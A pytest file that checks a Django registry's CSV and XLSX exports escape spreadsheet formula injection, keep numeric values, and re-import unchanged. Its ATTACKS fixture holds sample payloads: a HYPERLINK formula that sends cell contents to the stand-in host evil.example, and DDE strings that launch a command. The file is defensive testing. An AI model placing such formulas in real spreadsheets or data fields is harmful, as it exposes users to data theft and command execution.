"""Exports never write a live formula: text that a spreadsheet would evaluate is escaped."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from symbiose.registry.actions import check_save_organisation, check_save_stream
from symbiose.registry.importers.listing import plan_import
from symbiose.registry.importers.sources import read_paths
from symbiose.spreadsheet import safe_cell

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "description": "=cmd|' /C calc'!A0",
    "composition": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+cmd|x", "=", "-2-"]
)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-150", "+4.5", "-1e3", "-0,5", -150, 2.5, None, True, "Slag"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_control_characters_that_xlsx_cannot_hold_are_dropped():
    assert safe_cell("Slag\x00\x1b fra ovn") == "Slag fra ovn"


@pytest.fixture
def formula_stream(db):
    check_save_organisation({"ref": "ORG-F", "name": "Formel AS"}, acting_user=None)
    check_save_stream(
        {"ref": "S-F", "organisation_ref": "ORG-F", "direction": "offer", "category": "material",
         "price_nok_per_unit": "-150", "quantity": "12", "unit": "t", **ATTACKS},
        acting_user=None,
    )  # fmt: skip


def test_symbiose_export_csv_escapes_formulas_but_keeps_numbers(tmp_path, formula_stream):
    call_command("export", str(tmp_path), stdout=io.StringIO())
    with (tmp_path / "streams.csv").open(encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    for column, text in ATTACKS.items():
        assert row[column] == "'" + text
    assert row["price_nok_per_unit"] == "-150" and row["quantity"] == "12"


def test_symbiose_export_xlsx_has_no_formula_cells(tmp_path, formula_stream):
    call_command("export", str(tmp_path), "--format", "xlsx", stdout=io.StringIO())
    book = openpyxl.load_workbook(tmp_path / "listing.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'" + t for t in ATTACKS.values()} <= values and "-150" in values


def test_escaped_export_imports_back_unchanged(tmp_path, formula_stream):
    call_command("export", str(tmp_path), stdout=io.StringIO())
    plan = plan_import(read_paths([tmp_path]))
    assert plan.ok, [p.render() for p in plan.problems]
    assert {r.action for r in plan.rows} == {"unchanged"}
